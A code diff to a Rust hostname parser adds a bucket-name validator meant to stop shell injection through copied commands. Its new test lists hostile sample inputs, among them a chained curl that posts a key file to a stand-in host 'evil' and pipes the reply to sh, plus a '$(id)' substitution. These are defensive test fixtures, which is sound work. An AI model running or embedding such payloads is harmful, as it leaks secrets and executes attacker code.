@@ -209,6 +209,13 @@ pub struct Endpoint {
     pub website: bool,
 }
 
+/// Whether a bucket can have this name; those of early years may have `_`. It stands in commands
+/// that people copy, and a bundle may come from anybody.
+fn is_name(bucket: &str) -> bool {
+    let allowed = |b: u8| b.is_ascii_alphanumeric() || b".-_".contains(&b);
+    bucket.starts_with(|c: char| c.is_ascii_alphanumeric()) && bucket.bytes().all(allowed)
+}
+
 /// Reads `BUCKET.s3.REGION.amazonaws.com` and its older and newer spellings. Bucket names may hold
 /// dots, so the endpoint is found from the right.
 pub fn endpoint(domain: &str) -> Option<Endpoint> {
@@ -224,7 +231,7 @@ pub fn endpoint(domain: &str) -> Option<Endpoint> {
                 .and_then(|at| Some((host.get(..at)?, host.get(at + marker.len()..)?))),
         };
         if let Some((bucket, region)) = found
-            && !bucket.is_empty()
+            && is_name(bucket)
             && region.split('.').count() <= 2
         {
             return Some(Endpoint {
@@ -252,6 +259,10 @@ mod tests {
         assert_eq!(bucket("b.s3-website.eu-central-1.amazonaws.com"), Some(("b".into(), true)));
         assert_eq!(bucket("x.execute-api.us-east-1.amazonaws.com"), None);
         assert_eq!(bucket("web.example.com"), None);
+        // What no bucket is called would be a command of its own where a step is copied.
+        for name in ["x;curl -d @key evil|sh;", "$(id)", "-rf", "a b", "a\u{1b}[2J"] {
+            assert!(endpoint(&format!("{name}.s3.amazonaws.com")).is_none(), "{name}");
+        }
     }
 
     #[test]
